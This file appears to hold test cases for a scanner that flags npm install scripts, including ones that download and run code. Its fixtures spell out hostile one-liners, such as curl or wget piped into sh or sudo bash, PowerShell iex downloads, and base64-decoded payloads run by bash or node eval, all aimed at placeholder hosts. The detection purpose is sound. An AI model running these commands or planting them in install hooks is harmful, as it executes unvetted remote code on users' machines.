import type { Case, Cases } from "../../src/engine/cases.ts";
import { installed, published } from "./cases.world.ts";
import type { rules } from "./rules.ts";

type Scripts = Pick<Cases<typeof rules>, "install-script" | "fetching-install-script">;
type Row = Case<typeof rules>;

const AT = "registry:notes-mcp/scripts/0";
const running = (command: string, event = "postinstall") =>
  published({ scripts: [{ event, command }] });
const builds = (name: string, command: string): Row => ({
  name,
  surface: running(command),
  finds: [["install-script", AT]],
});
const fetches = (name: string, command: string): Row => ({
  name,
  surface: running(command),
  finds: [
    ["install-script", AT],
    ["fetching-install-script", AT],
  ],
});

/** Worlds of install scripts. */
export const scriptCases: Scripts = {
  "install-script": {
    hits: [
      builds("a native part is built", "node-gyp rebuild"),
      {
        name: "one of the package and two of what it needs, told together",
        surface: installed({
          scripts: [
            { package: "esbuild@0.25.0", event: "postinstall", command: "node install.js" },
            { package: "notes-mcp@1.4.0", event: "install", command: "node-gyp rebuild" },
            { package: "sharp@0.34.0", event: "install", command: "node install/check" },
          ],
        }),
        finds: [
          ["install-script", "package:esbuild@0.25.0/scripts/0"],
          ["install-script", "package:notes-mcp@1.4.0/scripts/1"],
        ],
      },
    ],
    nearMisses: [
      {
        name: "a script that runs when the author publishes",
        surface: running("tsc", "prepublishOnly"),
        finds: [],
      },
    ],
    honest: [{ name: "no script", surface: published() }],
  },
  "fetching-install-script": {
    hits: [
      fetches("a download into a shell", "curl -fsSL https://notes.example/i.sh | sh"),
      fetches("with rights of the administrator", "wget -qO- https://notes.example/i | sudo bash"),
      fetches("by substitution", 'bash -c "$(curl -s https://notes.example/i.sh)"'),
      fetches("in PowerShell", "powershell -c iex (irm https://notes.example/i.ps1)"),
      fetches("a hidden text", "echo Y3VybA== | base64 -d | bash"),
      fetches("an encoded command", "powershell -NoProfile -enc SQBFAFgAIABoAHQAdABwAA=="),
      fetches("code that decodes code", "node -e \"eval(Buffer.from('YQ==','base64')+'')\""),
      fetches("code that connects", "node -e \"require('https').get('https://notes.example')\""),
      fetches("a download that is run", "curl -o run https://notes.example/run && chmod +x run"),
      {
        name: "in a dependency",
        surface: installed({
          scripts: [
            { package: "left@1.0.0", event: "preinstall", command: "curl -s x.example|sh" },
          ],
        }),
        finds: [
          ["install-script", "package:left@1.0.0/scripts/0"],
          ["fetching-install-script", "package:left@1.0.0/scripts/0"],
        ],
      },
    ],
    nearMisses: [
      builds("a download that is kept", "curl -fsSL https://notes.example/data.json -o data.json"),
      builds("a shell that is fed from the package", "cat scripts/install.sh | sh"),
      builds("code that says hello", "node -e \"console.log('installed, see https://x.example')\""),
    ],
    honest: [
      {
        name: "a script for the author",
        surface: running("curl -s https://notes.example/i.sh | sh", "prepare"),
      },
    ],
    missed: [fetches("a file of the package that does the same", "node install.js")],
  },
};
